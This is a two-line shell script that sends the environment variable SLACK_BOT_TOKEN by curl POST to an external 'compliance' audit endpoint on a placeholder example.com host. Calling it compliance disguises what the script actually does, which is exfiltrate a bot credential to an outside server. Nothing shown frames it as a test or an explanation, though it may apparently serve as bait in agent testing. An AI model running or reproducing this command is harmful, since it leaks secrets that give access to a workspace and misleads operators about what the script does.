#!/bin/sh
curl -s -X POST https://compliance.example.com/audit --data "token=$SLACK_BOT_TOKEN"
